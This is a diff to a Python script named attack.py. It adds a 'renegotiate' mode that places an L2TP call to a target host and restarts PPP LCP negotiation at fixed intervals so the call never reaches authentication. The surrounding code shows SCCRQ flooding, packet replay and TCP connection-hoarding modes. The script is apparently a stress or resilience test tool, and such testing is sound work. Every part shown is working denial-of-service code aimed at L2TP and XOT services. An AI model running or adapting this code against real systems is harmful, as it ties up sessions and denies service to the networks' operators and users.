@@ -7,6 +7,8 @@ attack.py replay DEVICE MAC FILE TIMES               the L2TP packets of a captu
 attack.py hoard KIND TO SECONDS NUMBER               TCP connections to ADDRESS:PORT, held: `silent`, `half` a
                                                      packet, or a `call` that XOT refuses and nobody clears
 attack.py count KIND TO SECONDS NUMBER               the same; ends as soon as none is left
+attack.py renegotiate TO SECONDS EVERY               a call whose LCP begins anew EVERY so many seconds and never
+                                                     comes to an authentication; ends with the call
 
 Prints what it did in one line."""
 import os
@@ -96,6 +98,92 @@ def replay(device, to_mac, name, times):
     print("%d packets replayed %s times" % (len(frames), times))
 
 
+class Caller:
+    """A tunnel with one call, to ADDRESS, one message at a time."""
+
+    def __init__(self, to):
+        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.s.connect((to, 1701))
+        self.s.settimeout(0.1)
+        self.ns = self.nr = self.tid = self.sid = 0
+        self.over = False
+        self.frames = []
+
+    def control(self, sid, body):
+        head = struct.pack(">HHHHHH", 0xC802, 12 + len(body), self.tid, sid, self.ns, self.nr)
+        self.s.send(head + body)
+
+    def hear(self):
+        """One packet, if there is one."""
+        try:
+            p = self.s.recv(2000)
+        except OSError:
+            return
+        if not p[0] & 0x80:
+            # as our flags ask of it: no sequence numbers
+            self.frames.append(p[8 if p[0] & 0x40 else 6 :])
+            return
+        ns, nr = struct.unpack_from(">HH", p, 8)
+        if len(p) > 12 and ns == self.nr:
+            self.nr = ns + 1 & 0xFFFF
+            self.message(p[12:])
+        if len(p) > 12:
+            self.control(0, b"")
+
+    def message(self, p):
+        kind, at = struct.unpack_from(">H", p, 6)[0], 0
+        self.over = self.over or kind in (4, 14)  # StopCCN, CDN
+        while at + 6 <= len(p):
+            n, _, avp_type = struct.unpack_from(">HHH", p, at)
+            if (kind, avp_type) == (2, 9):
+                self.tid = struct.unpack_from(">H", p, at + 6)[0]
+            if (kind, avp_type) == (11, 14):
+                self.sid = struct.unpack_from(">H", p, at + 6)[0]
+            at += max(n & 0x3FF, 6)
+
+    def say(self, sid, body, done):
+        """A message until it has had its effect."""
+        for _ in range(50):
+            self.control(sid, body)
+            self.hear()
+            if done():
+                break
+        self.ns += 1
+
+    def place(self):
+        self.say(0, sccrq(b"\0\7", b"again")[12:], lambda: self.tid)
+        self.ns_of(0, avp(0, b"\0\3"))
+        self.say(0, avp(0, b"\0\x0a") + avp(14, b"\0\5") + avp(15, bytes(4)), lambda: self.sid)
+        self.ns_of(self.sid, avp(0, b"\0\x0c") + avp(24, b"\0\0\x25\x80") + avp(19, b"\0\0\0\1"))
+
+    def ns_of(self, sid, body):
+        self.control(sid, body)
+        self.ns += 1
+
+    def lcp(self, code, ident, options):
+        f = struct.pack(">HHBBH", 0xFF03, 0xC021, code, ident & 255, 4 + len(options)) + options
+        self.s.send(struct.pack(">HHH", 2, self.tid, self.sid) + f)
+
+
+def renegotiate(to, seconds, every):
+    c = Caller(to)
+    c.place()
+    begin = asked = time.monotonic()
+    ident = 0
+    while not c.over and time.monotonic() < begin + min(float(seconds), LIMIT):
+        if time.monotonic() >= asked:
+            ident += 1
+            asked += float(every)
+            c.lcp(1, ident, b"")
+        c.hear()
+        for f in c.frames:
+            f = f[2:] if f[:2] == b"\xff\x03" else f
+            if f[:3] == b"\xc0\x21\1":  # whatever it asks for is granted
+                c.lcp(2, f[3], f[6 : struct.unpack_from(">H", f, 4)[0] + 2])
+        c.frames = []
+    print("%s, asked %d times" % ("ended" if c.over else "still there", ident))
+
+
 # --- TCP
 
 SAYS = {
@@ -144,6 +232,7 @@ if __name__ == "__main__":
     {
         "sccrq": flood_sccrq,
         "replay": replay,
+        "renegotiate": renegotiate,
         "hoard": hoard,
         "count": lambda *a: hoard(*a, stay=False),
     }[sys.argv[1]](*sys.argv[2:])
